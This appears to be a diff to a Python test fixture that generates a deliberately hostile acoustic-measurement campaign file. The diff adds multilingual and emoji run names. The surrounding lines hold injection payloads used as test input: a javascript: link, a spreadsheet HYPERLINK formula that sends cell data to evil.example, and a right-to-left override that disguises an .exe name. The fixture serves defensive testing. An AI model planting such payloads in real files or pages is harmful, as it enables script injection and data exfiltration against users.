@@ -1,4 +1,4 @@
-"""A campaign and logs whose every word tries something: markup, scripts, formulas, controls, reversed writing."""
+"""A campaign and logs whose every word tries something: markup, scripts, formulas, controls, writing of any script."""
 
 import json
 import struct
@@ -20,12 +20,20 @@ LINK = '<a href="javascript:window.PWNED=1">x</a>'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 CONTROL = "a\x1b[31mb\x07\u202egpj.exe\u2066\x00c\r\nd"
 LONG = "Lang<b>" * 1500
+CHINESE = "株洲 噪声测点一号"
+CYRILLIC = "Электровоз «Ёлка» \\n"
+RIGHT_TO_LEFT = "קטר 12 (צפון) قاطرة"
+EMOJI = "\U0001f600\U0001f682 ]]> `'\""
+UNBROKEN = "Getriebegehaeuse" * 13
+NAMES = ("Ось 1 噪声测点 מיקרופון", "قاطرة כן Шум", UNBROKEN[:60])
+"""What a run may be called: letters of any script, at most 64 of them."""
+WRITINGS = (CHINESE, CYRILLIC, RIGHT_TO_LEFT, EMOJI, UNBROKEN)
 EVERY = (SCRIPT, IMAGE, ATTRIBUTE, SVG, LINK, FORMULA, "@SUM(A1)", CONTROL, LONG)
 
 
 def toml(text: str) -> str:
-    """A TOML basic string; JSON's spelling is one, but for the halves of surrogate pairs, of which there are none."""
-    return json.dumps(text).replace("\x7f", "\\u007f")
+    """A TOML basic string; JSON's spelling is one, but for the halves of surrogate pairs."""
+    return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f")
 
 
 def write_hdf5(path: Path, seed: int) -> None:
@@ -111,7 +119,7 @@ def hostile_campaign(folder: Path) -> Path:
     words = [
         'schema = "tdacoustic-campaign/1"', f"name = {toml(SCRIPT + IMAGE)}", 'origin = "measured"',
         'fleet = "fleet.toml"', "[meta]",
-        *(f"{toml(text[:300])} = {toml(text[:3000])}" for text in EVERY if text != CONTROL),
+        *(f"{toml(text[:300])} = {toml(text[:3000])}" for text in (*EVERY, *WRITINGS) if text != CONTROL),
         "[[channel]]", 'name = "mic"', f"source = {toml(microphone)}", 'component = "air"', 'role = "receiver"',
         'quantity = "sound_pressure"', "distance_m = 4.0", f"side = {toml(ATTRIBUTE)}", f"direction = {toml(SVG)}",
         "[[channel]]", 'name = "motor"', 'component = "motor"', 'quantity = "acceleration"',
@@ -123,7 +131,13 @@ def hostile_campaign(folder: Path) -> Path:
         words += ["[[run]]", f"condition = {toml(condition)}", f"logs = [{toml(log.name)}]",
                   f"train_speed_km_h = {speed}", f"direction = {toml(IMAGE)}"]  # fmt: skip
     for number, log in enumerate(logs[2:]):
-        words += ["[[run]]", f'condition = "c{number}"', f"logs = [{toml(log.name)}]", "train_speed_km_h = 40.0"]
+        words += [
+            "[[run]]",
+            f"name = {toml(f'{number} {NAMES[number]}')}",
+            f'condition = "c{number}"',
+            f"logs = [{toml(log.name)}]",
+            "train_speed_km_h = 40.0",
+        ]
     gone = f"gone{IMAGE.replace('/', '')}.h5"
     words += ["[[run]]", 'condition = "a"', f"logs = [{toml(gone)}]", "valid = false",
               f"reject_reason = {toml(FORMULA + SCRIPT + LONG)}", "train_speed_km_h = 30.0"]  # fmt: skip
